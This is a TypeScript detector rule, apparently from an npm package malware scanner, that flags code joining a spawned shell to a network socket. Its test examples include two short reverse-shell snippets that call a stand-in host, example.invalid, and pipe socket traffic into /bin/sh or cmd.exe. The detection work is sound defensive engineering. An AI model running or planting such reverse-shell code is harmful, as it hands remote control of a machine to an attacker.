import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { nearby } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { isLate, sight } from "./_sight.ts";

const STARTS = ["child_process", "bun.spawn", "deno.command"] as const;
const SHELL = /(?:^|[\s/\\])(?:ba|z|da|k)?sh(?:\.exe)?(?:$|\s)|(?:^|[\s/\\])(?:cmd|powershell|pwsh)(?:\.exe)?(?:$|\s)/i;
const JOINS = /\.pipe\(|\.stdin\b|\.stdout\b|\.on\(\s{0,4}['"`](?:data|message)['"`]/;

export const joinsShellToSocket: Detector = {
  id: "joins-shell-to-socket",
  title: "Connects a shell to a socket",
  severity: "critical",
  ecosystems: ["npm"],
  points: 6.5,
  class: "threat",
  group: "remote-control",
  why: `A shell is started right beside a socket that the code opens, and the streams of both are joined or answered: whoever is at the
other end types commands on this machine.

Terminal servers listen for their users instead of calling out, and use a pseudo terminal; they are seldom a few lines.`,
  literals: STARTS,
  *detect(tree) {
    for (const file of scriptsWith(tree, STARTS)) {
      const shells = deedsOf(file, "start").filter((deed) => SHELL.test(deed.text) || /exec(?:Sync)?$/.test(deed.what));
      if (shells.length === 0 || !JOINS.test(file.text)) continue;
      const sockets = deedsOf(file, "socket").filter((deed) => !/createSocket/.test(deed.what));
      const pair = nearby(file, shells, sockets, true);
      if (pair === undefined) continue;
      const certain = SHELL.test(pair.first.text);
      const late = isLate(file);
      const says = `${pair.first.what} starts ${pair.first.text || "what it is told"} beside ${pair.then.what}`;
      yield sight(file, pair.first.offset, says, { share: (certain ? 1 : 0.5) * (late ? 0.6 : 1) });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, 'example.invalid', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: { "index.js": "const net = require('net');\nnet.connect(80).on('data', show);\n" },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const cp = require('child_process');\ncp.spawn('/bin/sh', ['-c', x]).stdout.pipe(process.stdout);\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "index.mjs":
            "import * as n from 'node:net';\nimport { spawn as s } from 'node:child_process';\nconst k = n.connect(1, 'example.invalid');\nconst p = s('cmd.exe');\nk.on('data', (d) => p.stdin.write(d));\n",
        },
      },
    ],
  },
};
